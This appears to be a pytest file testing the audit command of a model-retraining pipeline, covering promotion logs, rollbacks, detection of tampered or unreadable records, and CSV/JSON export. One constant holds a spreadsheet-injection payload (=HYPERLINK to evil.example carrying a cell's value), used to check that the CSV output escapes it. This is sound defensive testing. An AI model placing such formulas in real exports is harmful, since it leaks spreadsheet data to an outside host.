"""The audit of a period: every promotion is in it, and nothing unreadable is skipped."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from include.retraining.__main__ import main
from include.retraining.approval.answer import Approval, write_approval
from include.retraining.decisions.record import Outcome
from include.retraining.decisions.record_files import decision_keys
from include.retraining.fingerprint.pinned import PinnedExtra
from include.retraining.gate.report import EvaluationReport
from include.retraining.history.audit import AuditRow, _code, audit
from include.retraining.registry.promotion import Registry
from include.retraining.registry.promotion_log import PromotionLog
from include.retraining.runs.manifest import read_manifest
from include.retraining.steps.close_run import close_run
from include.retraining.steps.decide import check_quality
from include.retraining.store import layout
from include.retraining.store.marker import initialise
from include.retraining.store.object_store import OPTIONS_VARIABLE, URI_VARIABLE, Store
from tests.support.run_factory import CODE, MODEL, decide, plant_run, run_ref, version_name

ALWAYS = (datetime(2020, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def store(folder_store: Store, monkeypatch: pytest.MonkeyPatch) -> Store:
    """An initialised store that the environment names."""
    monkeypatch.setenv(URI_VARIABLE, folder_store.uri)
    monkeypatch.setenv(OPTIONS_VARIABLE, "{}")
    return initialise(folder_store.uri, {})


def rows_of(store: Store) -> list[AuditRow]:
    """All that ever happened."""
    return audit(store, [MODEL], *ALWAYS)


def promote_only(store: Store, number: int) -> None:
    """Append a run's entry to the log without closing the run, as a killed process would."""
    run = plant_run(store, number)
    Registry(store, MODEL).promote(
        manifest=read_manifest(store, run.paths),
        verdict=check_quality(store, run),
        report=EvaluationReport.from_bytes(store.read(run.paths.evaluation), where="evaluation"),
        actor="late",
        reason="late",
    )


def roll_back(store: Store, number: int) -> None:
    """Let the first version serve again, if another one serves."""
    champion = PromotionLog(store, MODEL).champion()
    first = champion and PromotionLog(store, MODEL).entry(1).version
    if champion and first != champion.version:
        Registry(store, MODEL).rollback(first, actor="ann", reason=f"reason {number}")


def release(store: Store, number: int) -> None:
    """Release a hold, if there is one."""
    if PromotionLog(store, MODEL).hold() is not None:
        Registry(store, MODEL).release(actor="ann", reason=f"reason {number}")


def promote(store: Store, number: int) -> None:
    """Let a good run decide, whatever is on hold."""
    decide(store, plant_run(store, number))


def refuse(store: Store, number: int) -> None:
    """Let a bad run decide."""
    decide(store, plant_run(store, number, report={"fairness.0.disparate_impact": 0.7}))


def fail(store: Store, number: int) -> None:
    """Close a run that broke."""
    close_run(store, run_ref(number), Outcome.FAILED, "killed")


def promote_held_too(store: Store, number: int) -> None:
    """Append an entry and leave no record, if nothing is on hold."""
    if PromotionLog(store, MODEL).hold() is None:
        promote_only(store, number)


ACTIONS: list[Callable[[Store, int], None]] = [
    promote,
    refuse,
    fail,
    promote_held_too,
    roll_back,
    release,
]


def test_a_promotion_is_told_with_its_person_code_and_data(store: Store) -> None:
    """A promoted run is one row: its entry, its code, its files and who approved it."""
    run = plant_run(store, 1, force_retrain=True, reason="new codes")
    verdict = check_quality(store, run)
    answered = datetime(2026, 1, 2, 9, tzinfo=UTC)
    write_approval(
        store,
        run.paths,
        Approval(
            run_id=run.run_id,
            clear=0,
            verdict_digest=verdict.content_digest,
            choice="approve",
            by="ann",
            note="seen",
            answered_at=answered,
        ),
    )
    decide(store, run)
    (row,) = rows_of(store)
    entry = PromotionLog(store, MODEL).entry(1)
    assert (row.at, row.what, row.outcome, row.generation) == (
        entry.created_at,
        "run",
        "promoted",
        1,
    )
    assert (row.run_id, row.run_type, row.due) == (run.run_id, "scheduled", run.run_after)
    assert (row.is_forced, row.trigger_reason, row.is_dry_run) == (True, "new codes", False)
    assert (row.approval, row.approved_by, row.approval_note) == ("approve", "ann", "seen")
    assert row.approved_at == answered
    assert (row.core_digest, row.model_digest) == (CODE.core_digest, CODE.model_digest)
    assert (row.training_digest, row.judging_digest) == (CODE.training_digest, CODE.judging_digest)
    manifest = read_manifest(store, run.paths)
    assert (row.fingerprint, row.files) == (manifest.fingerprint, manifest.delivery.files)
    assert row.promoted_by == run.dag_id
    assert store.exists(row.evidence)


def test_the_libraries_of_extras_are_in_an_audit() -> None:
    """What a model was trained with beside the common libraries, and nothing where that is all."""
    pinned = PinnedExtra(name="trees", libraries=("lightgbm==4.7.0", "narwhals==2.29.0"))
    with_extra = CODE.model_copy(update={"extras": (pinned,)})
    assert _code(CODE)["extras"] is None
    assert _code(with_extra)["extras"] == "lightgbm==4.7.0 narwhals==2.29.0"
    assert "scorers" not in _code(CODE)


def test_what_people_do_by_hand_is_told(store: Store) -> None:
    """A rollback and its release name the person, the reason and the version's code and data."""
    promote(store, 1)
    promote(store, 2)
    roll_back(store, 3)
    release(store, 4)
    rollback, released = rows_of(store)[2:]
    assert (rollback.what, rollback.triggered_by, rollback.reason) == (
        "rollback",
        "ann",
        "reason 3",
    )
    assert (released.what, released.version) == ("release", version_name(1))
    assert rollback.files[0].name == "data.csv"
    assert rollback.core_digest == CODE.core_digest


@settings(max_examples=20, deadline=None)
@given(
    actions=st.lists(st.sampled_from(ACTIONS), max_size=8),
    damaged=st.sets(st.integers(0, 20), max_size=3),
    cut=st.integers(0, 8),
)
def test_every_promotion_is_in_it(
    actions: list[Callable[[Store, int], None]], damaged: set[int], cut: int
) -> None:
    """Every entry of the log and every record is one row, or one that says what is unreadable."""
    with tempfile.TemporaryDirectory() as folder:
        store = initialise(f"file://{folder}", {})
        for number, action in enumerate(actions, start=1):
            action(store, number)
        log = PromotionLog(store, MODEL)
        entries = log.history()
        keys = [f"{log.folder}/{name}" for name in log.names()]
        keys += decision_keys(store, MODEL)
        sound = rows_of(store)
        assert [row.generation for row in sound if row.generation] == [
            entry.generation for entry in entries
        ]
        assert all(row.what != "unreadable" for row in sound)
        middle = sound[cut].at if cut < len(sound) else ALWAYS[1]
        assert middle is not None
        parts = [audit(store, [MODEL], ALWAYS[0], middle), audit(store, [MODEL], middle, ALWAYS[1])]
        assert [row for part in parts for row in part] == sound

        broken = {keys[number] for number in damaged if number < len(keys)}
        for key in broken:
            store.write(key, b'{"torn')
        found = rows_of(store)
        unreadable = {row.evidence for row in found if row.what == "unreadable"}
        assert broken <= unreadable
        told = {row.generation for row in found}
        for entry in entries:
            key = layout.promotion_key(MODEL, entry.generation)
            assert key in unreadable or entry.generation in told


def test_an_altered_log_is_told(store: Store) -> None:
    """An entry that was altered and can still be read is told, and so is the alteration."""
    promote(store, 1)
    promote(store, 2)
    key = layout.promotion_key(MODEL, 1)
    store.write(key, store.read(key).replace(b'"actor": "retrain', b'"actor": "eve_rain'))
    first, second, problem = rows_of(store)
    assert (first.promoted_by or "").startswith("eve_rain")
    assert second.generation == 2
    assert (problem.what, problem.at) == ("unreadable", None)
    assert "altered" in (problem.reason or "")


def test_a_promotion_that_the_log_does_not_know_is_told(store: Store) -> None:
    """A record that says promoted while the entry is gone does not pass for sound."""
    promote(store, 1)
    store.delete(layout.promotion_key(MODEL, 1))
    problem = rows_of(store)[-1]
    assert (problem.what, problem.reason) == (
        "unreadable",
        "is recorded as promoted, and not in the log",
    )


def test_csv_is_safe_and_has_offsets(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    """What a person typed is no formula in a spreadsheet, and every time has its offset."""
    promote(store, 1)
    promote(store, 2)
    registry = Registry(store, MODEL)
    registry.rollback(version_name(1), actor="@ann", reason=FORMULA)
    assert main(["audit", "--from", "2020-01-01", "--to", "2099-12-31"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["what"] for row in rows] == ["run", "run", "rollback"]
    assert (rows[2]["reason"], rows[2]["triggered_by"]) == (f"'{FORMULA}", "'@ann")
    assert all(datetime.fromisoformat(row["at"]).utcoffset() == timedelta(0) for row in rows)
    assert rows[0]["files"].startswith("data.csv sha256:")


def test_json_has_the_same_facts(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    """`--format json` and `--json` print the rows as they are."""
    promote(store, 1)
    period = ["--from", "2020-01-01T00:00+01:00", "--to", "2099-12-31", "--model", MODEL]
    for words in (["--format", "json"], ["--json"]):
        assert main(["audit", *period, *words]) == 0
        (row,) = json.loads(capsys.readouterr().out)
        assert (row["outcome"], row["files"][0]["name"]) == ("promoted", "data.csv")


def test_unreadable_ends_in_an_error(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    """What cannot be read is listed, and the exit code says so, unless it was due after the end."""
    promote(store, 1)
    store.write(decision_keys(store, MODEL)[0], b"{}")
    assert main(["audit", "--from", "2020-01-01", "--to", "2020-01-02"]) == 0
    capsys.readouterr()
    assert main(["audit", "--from", "2026-01-01", "--to", "2026-01-10"]) == 1
    found = capsys.readouterr()
    (row,) = csv.DictReader(io.StringIO(found.out))
    assert (row["what"], row["evidence"]) == ("unreadable", decision_keys(store, MODEL)[0])
    assert "1 objects cannot be read" in found.err


def test_another_place_is_no_empty_audit(
    tmp_path: Path, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    """A wrong address or an unknown model is an error, not a period in which nothing happened."""
    period = ["--from", "2020-01-01", "--to", "2020-01-02"]
    assert main(["audit", *period, "--store", f"file://{tmp_path}"]) == 1
    assert main(["audit", *period, "--model", "tpyo"]) == 1
    assert not capsys.readouterr().out


@pytest.mark.parametrize(
    ("period", "message"),
    [
        (("yesterday", "2026-01-01"), "is no date"),
        (("2026-01-01T06:00", "2026-01-02"), "needs its offset"),
        (("2026-01-01", "2026-01-01 06:00"), "needs its offset"),
        (("2026-01-01", "9999-12-31"), "too late"),
    ],
)
def test_a_period_is_clear(
    period: tuple[str, str], message: str, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    """A time without a zone, or none at all, is refused in words."""
    assert main(["audit", "--from", period[0], "--to", period[1]]) == 2
    assert message in capsys.readouterr().err


def test_an_empty_period_is_refused(store: Store, capsys: pytest.CaptureFixture[Any]) -> None:
    """`--from` behind `--to` is a slip, not an empty audit."""
    assert main(["audit", "--from", "2026-02-01", "--to", "2026-01-01"]) == 1
    assert "the period is empty" in capsys.readouterr().err


def test_a_day_is_included(store: Store) -> None:
    """`--to` names the last day of the period."""
    promote(store, 1)
    today = PromotionLog(store, MODEL).entry(1).created_at.date().isoformat()
    assert main(["audit", "--from", today, "--to", today]) == 0
